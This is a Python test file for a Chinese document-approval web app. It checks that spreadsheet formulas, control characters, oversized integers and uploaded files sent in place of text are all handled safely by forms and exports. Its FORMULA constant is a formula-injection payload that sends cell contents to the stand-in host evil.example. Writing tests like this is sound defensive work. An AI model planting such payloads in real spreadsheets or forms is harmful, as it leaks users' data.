"""Hostile text is ordinary input: the findings F3–F6 of the attack on the app (issue "Hostile files
and hostile text"), each reproduced through the real pages.

- F3: a return reason written as a spreadsheet formula, and a department named like one, stay
  text in the office's 通报 .xlsx (and the audit CSV keeps neutralising them).
- F4: control characters are dropped where forms are bound; the exports also clean what an older
  version stored, so the 保密审查单 .docx and the 通报 .xlsx/.docx still open.
- F5: an integer beyond the database's range in a select is an ordinary "no such choice".
- F6: a multipart file part sent where a text field is expected gets the form's own message,
  before and after sign-in.
"""

from __future__ import annotations

import re
from datetime import timedelta
from io import BytesIO

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from approval.core import clock
from approval.core.text import clean
from approval.core.workflow import Action
from approval.extensions import db
from approval.models import Decision, Department, Item, User
from approval.platform.office_files import csv_cell
from tests.conftest import csrf_from
from tests.helpers.statistics import DASHBOARD

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
CONTROLS = "\x01\x1b\x7f\ufffe\uffff"  # PostgreSQL refuses NUL outright; the forms drop it too


# ------------------------------------------------------------------ the rule itself


@pytest.mark.parametrize(
    "typed,kept",
    [
        ("低保\x00公示\x1b名单", "低保公示名单"),
        ("第一行\r\n第二行\t列", "第一行\r\n第二行\t列"),  # line breaks and tabs are text
        ("a\ufffeb\uffffc\ud800d", "abcd"),
        ("全角１２３ ａｂｃ", "全角１２３ ａｂｃ"),  # everything else is kept as typed
    ],
)
def test_the_cleaning_rule(typed, kept):
    assert clean(typed) == kept


def test_a_csv_cell_never_starts_a_formula():
    assert csv_cell(FORMULA) == "'" + FORMULA
    assert csv_cell("-1") == "'-1" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("正常\x01文字") == "正常文字"


# ------------------------------------------------------------------ F4: forms clean what is typed


def test_control_characters_typed_into_a_draft_are_dropped(world, login_as):
    officer = login_as("officer")
    page = officer.get("/items/new")
    response = officer.client.post(
        "/items/new",
        data={
            "csrf_token": csrf_from(page.text),
            "title": "低保\x00公示\x1b名单\ufffe",
            "summary": "概述\x01",
            "body": "第一行\r\n第二行\x00",
            "info_type": "public_notice",
            "formed_on": clock.local_today().isoformat(),
            "disclosure_mode": "proactive",
            "channels": "website",
            "keywords": "",
            "non_disclosure_basis": "",
            "category_id": str(world.category.id),
        },
    )
    assert response.status_code in (302, 303), re.findall(
        r"field-error[^>]*>([^<]*)", response.text
    )
    item = db.session.scalars(select(Item).order_by(Item.id.desc())).first()
    revision = item.current_revision
    assert (revision.title, revision.summary, revision.body) == (
        "低保公示名单",
        "概述",
        "第一行\r\n第二行",
    )


def test_a_return_reason_with_control_characters_is_stored_clean(world, login_as):
    item = world.item()
    world.act("officer", item, Action.SUBMIT)
    leader = login_as("leader")
    page = leader.get(f"/items/{item.id}")
    response = leader.client.post(
        f"/items/{item.id}/act",
        data={
            "csrf_token": csrf_from(page.text),
            "action": "return",
            "version": item.version,
            "opinion": "请补充\x00附件\x1b",
        },
    )
    assert response.status_code in (302, 303), response.text[-2000:]
    decision = db.session.scalars(select(Decision).where(Decision.item_id == item.id)).one()
    assert decision.opinion == "请补充附件"


# ------------------------------------------------------------------ F4 and F3: exports


def test_the_secrecy_form_opens_whatever_an_older_version_stored(world, login_as):
    """A reason stored with control characters before the rule existed (written here past the
    forms, through the service) no longer breaks the .docx: it answered 500 before."""
    item = world.item(title="临时救助" + CONTROLS + "公示")
    world.act("officer", item, Action.SUBMIT)
    world.act("leader", item, Action.RETURN, opinion="格式" + CONTROLS + "不对")
    response = login_as("officer").get(f"/items/{item.id}/secrecy-form.docx")
    assert response.status_code == 200
    text = "\n".join(
        cell.text
        for table in Document(BytesIO(response.data)).tables
        for row in table.rows
        for cell in row.cells
    )
    assert "格式不对" in text and "临时救助公示" in text


def _returned_in_october(world, moment, reason: str, times: int = 3) -> None:
    for n in range(times):
        moment.at(f"2026-10-{20 + n} 09:00")
        item = world.item(title=f"退回测试 {n}")
        world.act("officer", item, Action.SUBMIT)
        world.act("leader", item, Action.RETURN, opinion=reason)


def test_a_formula_in_a_return_reason_stays_text_in_the_xlsx(october, world, moment, login_as):
    _returned_in_october(world, moment, FORMULA, times=4)
    db.session.add(Department(body=world.body, name="=1+2", position=9))
    db.session.commit()
    moment.at("2026-11-05 10:00")
    response = login_as("office").get(DASHBOARD + "export.xlsx?period=2026-10")
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.data))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert {c.value for c in cells} == {FORMULA, "=1+2"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, not a formula


def test_the_report_opens_with_a_reason_stored_with_control_characters(
    october, world, moment, login_as
):
    _returned_in_october(world, moment, "附件" + CONTROLS + "缺失", times=4)
    moment.at("2026-11-05 10:00")
    office = login_as("office")
    xlsx = office.get(DASHBOARD + "export.xlsx?period=2026-10")
    docx = office.get(DASHBOARD + "export.docx?period=2026-10")
    assert (xlsx.status_code, docx.status_code) == (200, 200)
    reasons = [
        row[0]
        for row in load_workbook(BytesIO(xlsx.data))
        .worksheets[1]
        .iter_rows(min_row=3, values_only=True)
    ]
    assert reasons[0] == "附件缺失"
    words = [
        cell.text
        for table in Document(BytesIO(docx.data)).tables
        for row in table.rows
        for cell in row.cells
    ]
    assert "附件缺失" in words


# ------------------------------------------------------------------ F5: integers out of range

HUGE = "99999999999999999999"


def test_a_deputy_beyond_the_id_range_is_no_such_choice(world, login_as):
    leader = login_as("leader")
    today = clock.local_today()
    response = leader.post(
        "/delegations",
        {
            "role": "leader",
            "deputy_id": HUGE,
            "starts_on": today.isoformat(),
            "ends_on": (today + timedelta(days=2)).isoformat(),
            "reason": "休假",
        },
        token_from="/delegations",
    )
    assert response.status_code == 422
    assert "请选择代理人" in response.text


def test_a_department_beyond_the_id_range_is_no_such_choice(world, login_as):
    sysadmin = login_as("sysadmin")
    response = sysadmin.post(
        "/admin/users/new",
        {
            "username": "wangwu",
            "display_name": "王五",
            "department_id": HUGE,
            "password": "Xy9!kq2#Lm4$pZ",
            "repeat_password": "Xy9!kq2#Lm4$pZ",
        },
        token_from="/admin/users/new",
    )
    assert response.status_code == 422
    assert "请选择科室" in response.text
    assert db.session.scalar(select(User).where(User.username == "wangwu")) is None


# ------------------------------------------------------------------ F6: a file where text belongs


def _as_file(text: str = "x"):
    return (BytesIO(text.encode()), "field.txt")


def test_a_file_in_place_of_the_username_gets_the_login_forms_message(world, client):
    page = client.get("/login")
    response = client.post(
        "/login",
        data={"csrf_token": csrf_from(page.text), "username": _as_file(), "password": "whatever"},
        content_type="multipart/form-data",
    )
    assert response.status_code < 500
    assert "请输入用户名" in response.text or "请填写用户名" in response.text


def test_a_file_in_place_of_a_drafts_title_gets_the_forms_message(world, login_as):
    officer = login_as("officer")
    page = officer.get("/items/new")
    response = officer.client.post(
        "/items/new",
        data={
            "csrf_token": csrf_from(page.text),
            "title": _as_file("标题"),
            "body": "正文",
            "info_type": "public_notice",
            "formed_on": clock.local_today().isoformat(),
            "disclosure_mode": "proactive",
            "channels": "website",
            "non_disclosure_basis": "",
            "category_id": str(world.category.id),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert "请填写标题" in response.text
    assert 'name="body"' in response.text and "正文" in response.text  # what was typed stays


def test_a_file_in_place_of_an_opinion_changes_nothing(world, login_as):
    item = world.item()
    world.act("officer", item, Action.SUBMIT)
    leader = login_as("leader")
    page = leader.get(f"/items/{item.id}")
    response = leader.client.post(
        f"/items/{item.id}/act",
        data={
            "csrf_token": csrf_from(page.text),
            "action": "return",
            "version": item.version,
            "opinion": _as_file("理由"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code < 500
    assert db.session.get(Item, item.id).state == "pending_leader"


def test_a_file_in_place_of_a_department_name_gets_the_forms_message(world, login_as):
    sysadmin = login_as("sysadmin")
    page = sysadmin.get("/admin/departments")
    response = sysadmin.client.post(
        "/admin/departments",
        data={"csrf_token": csrf_from(page.text), "new-name": _as_file("科室"), "new-position": ""},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert "请填写科室名称" in response.text
